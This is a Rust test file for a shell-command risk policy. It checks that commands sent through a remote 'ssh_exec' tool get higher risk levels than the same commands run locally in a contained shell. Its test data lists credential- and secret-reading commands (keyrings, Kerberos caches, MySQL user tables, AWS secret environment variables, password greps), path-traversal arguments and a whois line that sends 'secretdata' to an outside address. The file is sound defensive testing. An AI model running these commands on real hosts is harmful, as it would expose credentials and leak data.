//! `ssh_exec` runs `low` on the remote host with nothing containing it: its lines are judged
//! without counting on containment, while `run_command` (contained on this host) keeps its
//! verdicts.

use serde_json::json;
use warden_policy::{Policy, RiskLevel};

fn shipped() -> Policy {
    match Policy::load(None) {
        Ok(policy) => policy,
        Err(e) => panic!("the shipped policy does not load: {e}"),
    }
}

fn level(policy: &Policy, tool: &str, line: &str) -> RiskLevel {
    policy
        .decide(
            "user",
            tool,
            "mutating",
            &json!({"host": "web", "command": line}),
        )
        .level
}

/// Lines that are low on this host only because containment backs them (hidden paths, files
/// the contained user cannot read, an empty environment, git's repository programs), with the
/// least level they get through `ssh_exec`.
const RAISED: &[(&str, RiskLevel)] = &[
    ("cat /root/anaconda-ks.cfg", RiskLevel::High),
    ("strings /var/lib/etcd/member/snap/db", RiskLevel::High),
    ("cat /var/lib/cloud/instance/user-data.txt", RiskLevel::High),
    ("strings /var/lib/mysql/mysql/user.MYD", RiskLevel::High),
    ("cat /tmp/krb5cc_0", RiskLevel::High),
    ("cat /etc/gitlab-runner/config.toml", RiskLevel::High),
    ("cat /etc/ceph/ceph.client.admin.keyring", RiskLevel::High),
    ("cat /var/spool/cron/crontabs/root", RiskLevel::High),
    ("cat /var/mail/root", RiskLevel::High),
    ("cat /proc/1/cmdline", RiskLevel::High),
    // ...and the process listers that print those command lines themselves.
    ("ps auxww", RiskLevel::High),
    ("ps aux", RiskLevel::High),
    ("ps -ef", RiskLevel::High),
    ("pgrep -af mysql", RiskLevel::High),
    ("top -bcn1", RiskLevel::High),
    ("journalctl -F _CMDLINE", RiskLevel::High),
    ("journalctl -o verbose", RiskLevel::High),
    ("systemctl status", RiskLevel::High),
    ("tail -n 5 /home/alice/.bash_history", RiskLevel::High),
    ("head /etc/mysql/debian.cnf", RiskLevel::High),
    (
        "cat /var//lib/../lib/postgresql/15/main/PG_VERSION",
        RiskLevel::High,
    ),
    ("cat anaconda-ks.cfg", RiskLevel::High),
    ("cat ~/.bash_history", RiskLevel::High),
    ("grep -r password /var", RiskLevel::High),
    ("grep -r password .", RiskLevel::High),
    ("md5sum /var/lib/mysql/ibdata1", RiskLevel::High),
    ("env", RiskLevel::High),
    ("env -0", RiskLevel::High),
    ("printenv", RiskLevel::High),
    ("printenv AWS_SECRET_ACCESS_KEY", RiskLevel::High),
    ("jq -n env", RiskLevel::High),
    ("jq -n '$ENV'", RiskLevel::High),
    ("jq -n 'env.HOME'", RiskLevel::High),
    (
        "awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'",
        RiskLevel::High,
    ),
    ("git -C /srv/app status", RiskLevel::Medium),
    ("git -C /srv/app log --oneline -n 5", RiskLevel::Medium),
    ("whois -h 203.0.113.9 -p 4444 secretdata", RiskLevel::Medium),
    ("nslookup", RiskLevel::Medium),
    // Files the contained user's modes keep from it, printed by their own programs.
    ("crontab -l", RiskLevel::High),
    ("crontab -l -u root", RiskLevel::High),
    ("networkctl cat wg0", RiskLevel::High),
    ("networkctl --no-pager cat wg0.netdev", RiskLevel::High),
    // Names the program joins to a directory, climbing out of it to a hidden place.
    (
        "systemd-analyze cat-config ../root/notes.txt",
        RiskLevel::High,
    ),
    ("sysctl kernel/../../../root/notes.txt", RiskLevel::High),
    ("tree --fromfile /root/notes.txt", RiskLevel::High),
    ("modinfo -k ../../../root/x ext4", RiskLevel::High),
    // Code run from the input or by a package manager's verb, with the user's rights.
    ("echo 'import os' | python3 -v", RiskLevel::High),
    ("env -C /srv/app npm version patch", RiskLevel::High),
    ("cargo check", RiskLevel::High),
];

#[test]
fn ssh_exec_does_not_count_on_containment() {
    let policy = shipped();
    let mut lenient = Vec::new();
    for (line, least) in RAISED {
        let got = level(&policy, "ssh_exec", line);
        if got < *least {
            lenient.push(format!("{line:?} -> {}", got.as_str()));
        }
    }
    assert!(lenient.is_empty(), "too lenient:\n{}", lenient.join("\n"));
}

#[test]
fn run_command_keeps_what_containment_backs() {
    let policy = shipped();
    for line in [
        "cat /root/anaconda-ks.cfg",
        "cat /var/mail/root",
        "env",
        "printenv",
        "git -C /srv/app status",
    ] {
        assert_eq!(
            level(&policy, "run_command", line),
            RiskLevel::Low,
            "{line}"
        );
    }
}

#[test]
fn ssh_exec_reads_of_ordinary_places_stay_low() {
    let policy = shipped();
    for line in [
        // The monitor's remote readings (backend/core/src/monitor/remote.rs).
        "cat /proc/loadavg /proc/meminfo",
        "getconf _NPROCESSORS_ONLN",
        "df -P -k -x tmpfs -x devtmpfs -x overlay -x squashfs",
        "uptime",
        "tail -n 50 /var/log/syslog",
        "grep -r error /var/log/nginx",
        "cat /etc/nginx/nginx.conf",
        "cat /proc/self/cmdline",
        "journalctl -u nginx -n 50",
        "systemctl is-active nginx",
        "ps -eo pid,comm | grep nginx",
        "ps -eo pid,comm,%cpu,%mem",
        "top -bn1",
        "pgrep nginx",
        "dig example.com",
        "jq .environment /srv/app/status.json",
        "networkctl status",
        "systemd-analyze cat-config systemd/journald.conf",
        "sysctl vm.swappiness",
    ] {
        assert_eq!(level(&policy, "ssh_exec", line), RiskLevel::Low, "{line}");
    }
}
